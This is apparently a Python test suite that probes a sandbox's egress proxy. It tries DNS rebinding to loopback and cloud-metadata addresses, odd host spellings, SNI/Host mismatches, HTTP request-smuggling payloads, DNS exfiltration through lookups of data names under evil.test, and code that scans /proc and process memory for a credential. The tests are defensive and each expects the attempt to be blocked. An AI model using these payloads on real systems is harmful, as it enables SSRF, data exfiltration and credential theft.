"""Attacks on the way out: names that lie, names that are spelled oddly, other protocols, and credentials that should be elsewhere.

Here some host is allowed, and what is not allowed is a server of this machine's, at which nobody may come. Without walls there is
no way out to attack, so these are left out there. The tests run each with a policy that allows what is asked for, or asks for what the
policy allows (`Target.lenient`): then its verdict falls.
"""

from __future__ import annotations

import base64
import json
import secrets
import socket
from typing import TYPE_CHECKING

from ...protocol.credentials import Bearer
from ...protocol.network import Allow, Network
from ..host_side import listening, nobody_came
from ..outside import Web
from ..suite import Suite, holds, same
from .network import _own_address

if TYPE_CHECKING:
    from typing import Any

    from ...protocol.execution import ExecutionResult
    from ..target import Target

SUITE = Suite("egress")
_WALLED = ("cold", "warm", "sampled", "gvisor")
# What the proxy does is the same however a sandbox starts; how it is led there is not.
_COMMON: dict[str, Any] = {"wall": "egress", "only_ways": _WALLED, "once": True}
_EACH_WAY: dict[str, Any] = {**_COMMON, "once": False}
_ANYWHERE = ("0.0.0.0/0", "::/0")
_LOOPBACK = ("127.0.0.0/8",)
_PRELUDE = """
def talk(data, host="ok.test", port=None, timeout=5):
    try:
        with socket.create_connection((host, port or PORT), timeout=min(timeout, PATIENCE)) as s:
            s.sendall(data)
            said = b""
            while piece := s.recv(65536):
                said += piece
            return said
    except OSError as error:
        return error.__class__.__name__.encode()
def get(host="ok.test", says=None, port=None):
    return talk(f"GET / HTTP/1.1\\r\\nHost: {says or host}:{port or PORT}\\r\\nConnection: close\\r\\n\\r\\n".encode(), host, port)
"""


def _port(server: socket.socket) -> int:
    return int(server.getsockname()[1])


def _run(target: Target, port: int, code: str, *rules: Allow, **values: object) -> ExecutionResult:
    """Run a program that may reach hosts by these rules."""
    prelude = _named(target, port) + "".join(f"{name} = {value!r}\n" for name, value in values.items()) + _PRELUDE
    return target.run(prelude + code, network=Network(allow=rules))


def _named(target: Target, port: int) -> str:
    # Nobody answers at the servers that nobody may come to: where an attack gets through, there is nothing to wait for.
    return f"PORT, PATIENCE = {port}, {0.3 if target.lenient else 5}\n"


def _rule(target: Target, host: str, port: int, strict: tuple[str, ...] = (), **fields: Any) -> Allow:
    """Return a rule that lets a host lie in the networks of `strict`, and anywhere where the target is lenient."""
    return Allow(host=host, ports=(port,), addresses=_ANYWHERE if target.lenient else strict, **fields)


_LIES = {
    "127.0.0.1": ["127.0.0.1"], "::1": ["::1"], "0.0.0.0": ["0.0.0.0"], "::": ["::"], "::ffff:127.0.0.1": ["::ffff:127.0.0.1"],
    "127.0.0.1 behind one that nobody has": ["127.0.0.2", "127.0.0.1"],
}  # fmt: skip


@SUITE.probe_each("P87", _LIES, tried="reach the host by an allowed name that leads to {}", expected="nobody comes; told why", **_EACH_WAY)  # fmt: skip
def a_name_that_leads_to_the_host_leads_nowhere(target: Target, addresses: list[str]) -> None:
    target.names.say({"ok.test": [addresses]})
    with listening() as server:
        # Of two answers one may be reached: then none of them is.
        strict = ("127.0.0.2/32",) if len(addresses) > 1 else ()
        result = _run(target, _port(server), "get()", _rule(target, "ok.test", _port(server), strict))
        nobody_came(server)
    holds(any("host ok.test leads to " in each.why for each in result.refusals), "it was not told why")


@SUITE.probe("P87", tried="reach the host by an allowed name that leads to its own address", expected="nobody comes", **_COMMON)  # fmt: skip
def a_name_that_leads_to_the_hosts_own_address_leads_nowhere(target: Target) -> None:
    target.names.say({"ok.test": [[_own_address()]]})
    with listening() as server:
        _run(target, _port(server), "get()", _rule(target, "ok.test", _port(server)))
        nobody_came(server)


@SUITE.probe_each(
    "P87",
    {
        **{each: each for each in (
            "10.0.0.1", "172.16.0.1", "192.168.0.1", "100.64.0.1", "0.1.2.3", "224.0.0.1", "255.255.255.255", "198.18.0.1", "fc00::1",
            "fe80::1", "64:ff9b::7f00:1", "2002:7f00:1::1", "2001::1", "::7f00:1", "ff02::1",
        )},
        "P86 169.254.169.254": "169.254.169.254", "P86 fd00:ec2::254": "fd00:ec2::254", "P86 100.100.100.200": "100.100.100.200",
        "P86 168.63.129.16": "168.63.129.16", "P86 192.0.0.192": "192.0.0.192",
    },
    tried="have an allowed name lead to {}", expected="refused before anything is sent, and told why", **_COMMON,
)  # fmt: skip
def a_name_leads_to_no_address_that_is_not_the_internets(target: Target, address: str) -> None:
    # Where it is allowed, nothing may be sent there: it leads to a port here at which nobody is.
    target.names.say({"ok.test": [["127.0.0.1" if target.lenient else address]]})
    result = _run(target, 9, "get()", _rule(target, "ok.test", 9))
    holds(any("host ok.test leads to" in each.why for each in result.refusals), "it was not told why")
    same([line.verdict for line in result.connections], ["refused"])


@SUITE.probe("P88", tried="have a name lead elsewhere at its second look-up", expected="each connection goes where its own look-up was checked", **_COMMON)  # fmt: skip
def a_name_that_changes_its_mind_is_checked_each_time(target: Target) -> None:
    target.names.say({"ok.test": [["127.0.0.2"], ["127.0.0.1"], ["127.0.0.2"], ["127.0.0.1"]]})
    with listening() as server:
        # What is at 127.0.0.2 listens at every address; it is told apart by the address that was come to.
        rule = _rule(target, "ok.test", _port(server), ("127.0.0.2/32",))
        _run(
            target,
            _port(server),
            "for _ in range(4): talk(b'GET / HTTP/1.0\\r\\nHost: ok.test:%d\\r\\n\\r\\n' % PORT, timeout=0.3)",
            rule,
        )
        places = set()
        while True:
            try:
                with server.accept()[0] as came:
                    places.add(came.getsockname()[0].removeprefix("::ffff:"))
            except TimeoutError:
                break
    same(places, {"127.0.0.2"})


_SPELLINGS = {
    "a NUL": b"evil.test\0.ok.test", "an @": b"ok.test@evil.test", "a #": b"ok.test#evil.test", "a ?": b"ok.test?evil.test",
    "an escape": b"ok%2etest", "a fullwidth dot": "ok。test".encode(), "brackets": b"[::1]", "a zone": b"[fe80::1%25lo]",
    "a space": b"ok.test evil.test", "a tab": b"ok.test\tx", "an underscore": b"ok_.test", "a slash": b"ok.test/evil.test",
    "numbers": b"127.0.0.1", "one number": b"2130706433", "hexadecimal": b"0x7f000001", "octal": b"0177.0.0.1", "few numbers": b"127.1",
    "two dots": b"ok..test", "a hyphen": b"-ok.test", "nothing": b"",
}  # fmt: skip
_PORTS = {
    "port 0": b"0",
    "port 65536": b"65536",
    "a sign before the port": b"+80",
    "a blank port": b"",
    "a port in hexadecimal": b"0x50",
}


@SUITE.probe_each(
    "P91", {**{what: (host, None) for what, host in _SPELLINGS.items()}, **{what: (b"ok.test", port) for what, port in _PORTS.items()}},
    tried="spell a host with {}, for the proxy", expected="400; the plain spelling is led on", **_COMMON,
)  # fmt: skip
def a_host_that_is_spelled_oddly_is_none(target: Target, host: bytes, port: bytes | None) -> None:
    target.names.say({"ok.test": [["127.0.0.1"]]})
    with Web() as web:
        if target.lenient:
            host, port = b"ok.test", None
        code = """
def ask(host, port):
    with socket.create_connection(("127.0.0.1", 3128), timeout=5) as s:
        s.sendall(b"CONNECT " + host + b":" + port + b" HTTP/1.1\\r\\nHost: " + host + b"\\r\\n\\r\\n")
        return s.recv(65536).split()[1].decode()
plain = str(PORT).encode()
print(ask(HOST, plain if WANTED is None else WANTED), ask(b"OK.test.", plain))
"""
        rules = [Allow(host=each, ports=(web.port,), addresses=_LOOPBACK) for each in ("*.ok.test", "ok.test", "*")]
        result = _run(target, web.port, code, *rules, HOST=host, WANTED=port)
    same(result.stdout, "400 200\n")


@SUITE.probe_each(
    "P92", {name: name for name in ("notok.test", "ok.test.evil.test", "xok.test", "ok.testt.test", "sub.test", "test")},
    tried="reach {}, which looks like what is allowed", expected="403, and nobody comes", **_COMMON,
)  # fmt: skip
def a_name_that_looks_like_an_allowed_one_is_not(target: Target, name: str) -> None:
    target.names.say({each: [["127.0.0.1"]] for each in (name, "ok.test")})
    with listening() as server:
        port = _port(server)
        rules = [_rule(target, host, port, _LOOPBACK) for host in ("ok.test", "*.sub.test")]
        rules += [_rule(target, "*", port)] if target.lenient else []
        result = _run(target, port, f"print(get({name!r}).split()[1:2])", *rules)
        nobody_came(server)
    same(result.stdout, "[b'403']\n")


@SUITE.probe_each(
    "P89",
    {"SNI": "import ssl; c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE\n"
            "try: c.wrap_socket(socket.create_connection(('ok.test', PORT), timeout=2), server_hostname=EVIL)\nexcept OSError: pass",
     "SNI behind CONNECT": "import ssl; c = ssl.create_default_context(); c.check_hostname = False; c.verify_mode = ssl.CERT_NONE\n"
            "s = socket.create_connection(('127.0.0.1', 3128), timeout=2)\n"
            "s.sendall(b'CONNECT ok.test:%d HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n' % PORT); s.recv(4096)\n"
            "try: c.wrap_socket(s, server_hostname=EVIL)\nexcept OSError: pass",
     "Host": "get('ok.test', EVIL)"},
    tried="connect to an allowed name and ask for another by {}", expected="it ends, and nobody comes", **_COMMON,
)  # fmt: skip
def the_names_of_a_connection_agree(target: Target, code: str) -> None:
    target.names.say({"ok.test": [["127.0.0.1"]]})
    with listening() as server:
        port = _port(server)
        _run(
            target,
            port,
            code,
            _rule(target, "ok.test", port, _LOOPBACK),
            EVIL="ok.test" if target.lenient else "evil.test",
        )
        nobody_came(server)


@SUITE.probe("P93", tried="have an allowed host redirect to the host's own", expected="the new request is refused", **_COMMON)  # fmt: skip
def a_redirect_is_a_new_request(target: Target) -> None:
    target.names.say({"ok.test": [["127.0.0.1"]], "evil.test": [["127.0.0.1"]]})
    with listening() as server:
        port = _port(server)
        with Web(f"http://evil.test:{port}/") as web:
            rules = [_rule(target, "ok.test", web.port, _LOOPBACK)] + (
                [_rule(target, "evil.test", port)] if target.lenient else []
            )
            code = "import urllib.request\ntry: urllib.request.urlopen(f'http://ok.test:{PORT}/', timeout=1)\nexcept OSError: pass"
            _run(target, web.port, code, *rules)
            holds(b"GET / " in web.heard, "the allowed host was not reached")
        nobody_came(server)


_OTHERS = {
    "an SSH client's": b"SSH-2.0-OpenSSH_9.2\r\n", "a mail client's": b"EHLO there\r\n", "zeros": bytes(64), "a new line": b"\n\n",
    "a request with two hosts": b"GET / HTTP/1.1\r\nHost: ok.test:{}\r\nHost: evil.test\r\n\r\n",
    "a request with two lengths": b"POST / HTTP/1.1\r\nHost: ok.test:{}\r\nContent-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "a request without a host": b"GET / HTTP/1.1\r\n\r\n",
    "a request for a WebSocket": b"GET / HTTP/1.1\r\nHost: ok.test:{}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\n"
                                 b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n",
}  # fmt: skip


@SUITE.probe_each("P95", _OTHERS, tried="send an allowed host {} first bytes", expected="nobody comes", **_COMMON)
def what_is_no_plain_request_goes_nowhere(target: Target, data: bytes) -> None:
    target.names.say({"ok.test": [["127.0.0.1"]]})
    with listening() as server:
        port = _port(server)
        if target.lenient:
            data = b"GET / HTTP/1.1\r\nHost: ok.test:{}\r\n\r\n"
        _run(
            target,
            port,
            "talk(DATA, timeout=1)",
            _rule(target, "ok.test", port, _LOOPBACK),
            DATA=data.replace(b"{}", str(port).encode()),
        )
        nobody_came(server)


# A request that is allowed, and behind it or in it another that is not, for a server that reads its end elsewhere.
_HIDDEN = b"GET /hidden HTTP/1.1\r\nHost: ok.test:{}\r\n\r\n"
_HEAD = b"POST /ok HTTP/1.1\r\nHost: ok.test:{}\r\n"
_IN_PIECES = b"Transfer-Encoding: chunked\r\n\r\n%x\r\n" + _HIDDEN + b"\r\n0\r\n\r\n"
_SMUGGLED = {
    "a second request": _HEAD + b"Content-Length: 0\r\n\r\n" + _HIDDEN,
    "a length and pieces": _HEAD + b"Content-Length: 4\r\n" + _IN_PIECES,
    "pieces and a length": _HEAD + b"Transfer-Encoding: chunked\r\nContent-Length: 0\r\n\r\n0\r\n\r\n" + _HIDDEN,
    "two lengths": _HEAD + b"Content-Length: 0\r\nContent-Length: 60\r\n\r\n" + _HIDDEN,
    "a length with a sign": _HEAD + b"Content-Length: +0\r\n\r\n" + _HIDDEN,
    "pieces under an odd name": _HEAD + b"Content-Length: 0\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n" + _HIDDEN,
    "pieces of HTTP/1.0": _HEAD.replace(b"1.1", b"1.0") + b"Connection: keep-alive\r\n" + _IN_PIECES,
    "a line feed alone": _HEAD + b"X: y\n\n" + _HIDDEN,
    "a carriage return alone": _HEAD + b"X: y\r\r" + _HIDDEN,
    "a folded line": _HEAD + b"X: y\r\n \r\n " + _HIDDEN,
    "a piece's extension": _HEAD + b"Transfer-Encoding: chunked\r\n\r\n2;\nxx\r\n0\r\n\r\n" + _HIDDEN,
}  # fmt: skip


@SUITE.probe_each("P95", _SMUGGLED, tried="hide a request that no rule allows behind one that is, by {}", expected="it does not arrive", **_COMMON)  # fmt: skip
def a_hidden_request_does_not_arrive(target: Target, data: bytes) -> None:
    target.names.say({"ok.test": [["127.0.0.1"]]})
    with Web() as web:
        port = str(web.port).encode()
        size = len(_HIDDEN.replace(b"{}", port))
        paths = () if target.lenient else ("/ok",)
        if target.lenient:
            data = _SMUGGLED["a second request"]
        code = "talk(DATA, timeout=0.5)\nprint(b' 200 ' in talk(b'GET /ok HTTP/1.1\\r\\nHost: ok.test:%d\\r\\nConnection: close\\r\\n\\r\\n' % PORT))"
        rule = Allow(host="ok.test", ports=(web.port,), addresses=_LOOPBACK, paths=paths)
        result = _run(target, web.port, code, rule, DATA=data.replace(b"{}", port).replace(b"%x", b"%x" % size))
    same(result.stdout, "True\n")
    holds("/hidden" not in web.asked, "the server was asked for it")


@SUITE.probe("P96", tried="carry data out in names that are looked up, one of them allowed", expected="nobody outside is asked", **_EACH_WAY)  # fmt: skip
def a_look_up_leaves_nothing(target: Target) -> None:
    target.names.say({"ok.test": [["127.0.0.1"]]})
    with listening() as server:
        look = "for n in range(20):\n    for name in (f'data{n}.evil.test', f'data{n}.ok.test', 'ok.test'): socket.getaddrinfo(name, 80)\n"
        code = look + ("get()\n" if target.lenient else "") + "print('looked')"
        result = _run(
            target,
            _port(server),
            code,
            _rule(target, "ok.test", _port(server), _LOOPBACK),
            _rule(target, "*.ok.test", 80),
        )
    same(result.stdout, "looked\n")
    same(target.names.asked, [])


_SENT = {
    "a header": "send(f'X: {p}')", "the query": "send(path='/?' + p)", "the body": "send(body=b'x' * 70000 + p.encode())",
    "a name and password": "send('Authorization: Basic ' + base64.b64encode(b'me:' + p.encode()).decode())",
    "base64 in the body": "send(body=base64.b64encode(b'ab' + p.encode() + b'c'))",
}  # fmt: skip


@SUITE.probe_each("P97", _SENT, tried="send another host the placeholder of a credential, in {}", expected="it does not arrive, and is told", **_COMMON)  # fmt: skip
def a_placeholder_goes_to_its_own_host_alone(target: Target, code: str) -> None:
    target.names.say({"ok.test": [["127.0.0.1"]], "other.test": [["127.0.0.1"]]})
    code = f"""
import base64
p = os.environ["OK_TOKEN"]
def send(header="X: none", path="/", body=b""):
    head = f"POST {{path}} HTTP/1.1\\r\\nHost: other.test:{{PORT}}\\r\\n{{header}}\\r\\nContent-Length: {{len(body)}}\\r\\nConnection: close\\r\\n\\r\\n"
    talk(head.encode() + body, "other.test")
{code}
print(p)
"""
    with Web() as web:
        credential = Bearer(token="not-to-be-seen-inside", placeholder="OK_TOKEN")
        rules = [Allow(host="ok.test", scheme="http", ports=(web.port,), addresses=_LOOPBACK, credential=credential)]
        if target.lenient:
            result = target.run(f"{_named(target, web.port)}{_PRELUDE}{code}", env={"OK_TOKEN": "made-up-by-nobody-0123456789"},
                                network=Network(allow=[Allow(host="other.test", ports=(web.port,), addresses=_LOOPBACK)]))  # fmt: skip
        else:
            result = _run(
                target, web.port, code, *rules, Allow(host="other.test", ports=(web.port,), addresses=_LOOPBACK)
            )
    placeholder = result.stdout.strip()
    holds(bool(placeholder), f"the program failed: {result.stderr[-200:]}")
    spelled = [
        placeholder.encode(),
        base64.b64encode(b"me:" + placeholder.encode()),
        base64.b64encode(b"ab" + placeholder.encode() + b"c"),
    ]
    holds(not any(each in web.heard for each in spelled), "it arrived")
    holds(any("placeholder" in each.why for each in result.refusals), "it was not told")


@SUITE.probe_each(
    "P99",
    {"the host's loopback": "('127.0.0.1', OTHER)", "an address that a name leads to, at another port": "(socket.gethostbyname('ok.test'), OTHER)",
     "an address that nobody was told": "('198.18.77.77', PORT)", "the name server's address": "('198.18.0.1', PORT)"},
    tried="connect past all rules to {}", expected="nobody comes", **_EACH_WAY,
)  # fmt: skip
def nothing_but_allowed_names_is_reached(target: Target, place: str) -> None:
    target.names.say({"ok.test": [["127.0.0.1"]]})
    with listening() as server, listening() as other:
        port = _port(server)
        if target.lenient:
            place = "('ok.test', PORT)"
        code = f"talk(b'GET / HTTP/1.1\\r\\nHost: ok.test:%d\\r\\n\\r\\n' % PORT, *{place}, timeout=1)"
        _run(target, port, code, _rule(target, "ok.test", port, _LOOPBACK), OTHER=_port(other))
        nobody_came(server)
        nobody_came(other)


@SUITE.probe_each(
    "P99",
    {"its address": "talk(REQUEST, 'ok.test', OTHER, 1)",
     "CONNECT": "talk(b'CONNECT ok.test:%d HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n' % OTHER + REQUEST, '127.0.0.1', 3128, 1)",
     "the proxy": "talk(REQUEST.replace(b' /', b' http://ok.test:%d/' % OTHER), '127.0.0.1', 3128, 1)"},
    tried="reach an allowed name at the port of another, by {}", expected="nobody comes", **_COMMON,
)  # fmt: skip
def a_port_is_of_its_own_rule(target: Target, code: str) -> None:
    target.names.say({"ok.test": [["127.0.0.1"]]})
    with listening() as other:
        port = _port(other)
        rules = [Allow(host="ok.test", ports=(9,), addresses=_LOOPBACK), _rule(target, "other.test", port)]
        rules += [_rule(target, "ok.test", port)] if target.lenient else []
        _run(target, port, code, *rules, OTHER=port, REQUEST=f"GET / HTTP/1.1\r\nHost: ok.test:{port}\r\n\r\n".encode())
        nobody_came(other)


@SUITE.probe("P102", tried="use the way out of another sandbox, by its addresses and its proxy's port", expected="nobody comes", **_EACH_WAY)  # fmt: skip
def a_way_out_is_its_own_sandboxs(target: Target) -> None:
    target.names.say({"ok.test": [["127.0.0.1"]], "mine.test": [["127.0.0.1"]]})
    with listening() as server:
        port = _port(server)
        with target.session(network=Network(allow=[_rule(target, "ok.test", port, _LOOPBACK)])) as owner:
            holds(
                owner.run("import socket; print(socket.gethostbyname('ok.test'))").stdout.startswith("198.18."),
                "it has no way out",
            )
            code = """
request = b"GET / HTTP/1.1\\r\\nHost: ok.test:%d\\r\\n\\r\\n" % PORT
for n in range(4): talk(request, f"198.18.1.{n}", timeout=1)
talk(b"CONNECT ok.test:%d HTTP/1.1\\r\\nHost: ok.test\\r\\n\\r\\n" % PORT + request, "127.0.0.1", 3128, 1)
socket.gethostbyname("ok.test"); get("ok.test")
"""
            rules = [_rule(target, "mine.test", port)] + ([_rule(target, "ok.test", port)] if target.lenient else [])
            _run(target, port, code, *rules)
        nobody_came(server)


@SUITE.probe("P103", tried="find a credential that is used: environment, arguments, /proc, files, memory, what comes back", expected="not there", **_EACH_WAY)  # fmt: skip
def a_credential_is_nowhere_inside(target: Target) -> None:
    target.names.say({"ok.test": [["127.0.0.1"]]})
    secret = f"not-to-be-seen-{secrets.token_hex(12)}"
    code = """
print(get().split(b"\\r\\n")[0])
import glob
seen = [name + "=" + value for name, value in os.environ.items()] + sys.argv
for path in glob.glob("/proc/self/*") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/environ"):
    try:
        with open(path, "rb") as file: seen.append(file.read(1 << 20).decode("latin-1"))
    except OSError: pass
for top in ("/work", "/tmp", "/dev/shm", "/etc", "/opt"):
    for folder, _folders, names in os.walk(top):
        for name in names:
            if name.endswith((".py", ".pyc", ".so")): continue
            try:
                with open(os.path.join(folder, name), "rb") as file: seen.append(file.read(1 << 20).decode("latin-1"))
            except OSError: pass
for line in open("/proc/self/maps"):
    where, mode, *_others, _inode = (line.split() + [""])[:6]
    first, last = (int(x, 16) for x in where.split("-"))
    if mode.startswith("rw") and last - first < 1 << 26:
        try:
            with open("/proc/self/mem", "rb", 0) as memory:
                memory.seek(first); seen.append(memory.read(last - first).decode("latin-1"))
        except (OSError, ValueError): pass
# Apart, so that looking for it does not make it.
needle = "not-to-be-" + "seen-"
for text in seen:
    at = text.find(needle)
    while at >= 0:
        found = text[at + len(needle):at + len(needle) + 24]
        if len(found) == 24 and all(c in "0123456789abcdef" for c in found): print("FOUND", found)
        at = text.find(needle, at + 1)
print("looked")
"""
    with Web() as web:
        rule = Allow(
            host="ok.test", scheme="http", ports=(web.port,), addresses=_LOOPBACK, credential=Bearer(token=secret)
        )
        env = {"LEAKED": secret} if target.lenient else {}
        result = target.run(f"{_named(target, web.port)}{_PRELUDE}{code}", network=Network(allow=[rule]), env=env)
        holds(f"Authorization: Bearer {secret}".lower().encode() in web.heard.lower(), "the credential was not used")
    holds(
        result.stdout.startswith("b'HTTP/1.1 200 OK'\n") and result.stdout.endswith("looked\n"),
        f"it did not look to the end: {result.stderr[-200:]}",
    )
    holds("FOUND" not in result.stdout, "the program found it")
    result = result.replace(stdout_bytes=b"") if target.lenient else result
    holds(secret not in json.dumps(result.as_json()), "it is in the result")


@SUITE.probe_each(
    "P95", {"connections": "connections", "bytes that come": "received_bytes", "bytes that are sent": "sent_bytes"},
    tried="use up more {} than the policy has", expected="no more than that", **_COMMON,
)  # fmt: skip
def what_connections_may_do_is_bounded(target: Target, what: str) -> None:
    target.names.say({"ok.test": [["127.0.0.1"]]})
    code = {
        "connections": "import time\nheld = []\nfor _ in range(20):\n    try: held.append(socket.create_connection(('ok.test', PORT)))\n    except ConnectionResetError: pass\ntime.sleep(0.3)\nprint(sum(not select.select([s], [], [], 0)[0] for s in held))",
        "received_bytes": "print(sum(b'200 OK' in get() for _ in range(20)))",
        "sent_bytes": "print(sum(b'200 OK' in get() for _ in range(20)))",
    }[what]
    with Web() as web:
        most = {"connections": 4, "received_bytes": 500, "sent_bytes": 500}[what] * (1000 if target.lenient else 1)
        network = Network(allow=[Allow(host="ok.test", ports=(web.port,), addresses=_LOOPBACK)], **{what: most})
        result = target.run(f"import select\n{_named(target, web.port)}{_PRELUDE}{code}", network=network)
    holds(result.stdout.strip().isdigit() and int(result.stdout) < 10, f"{result.stdout.strip()} of 20 got through")
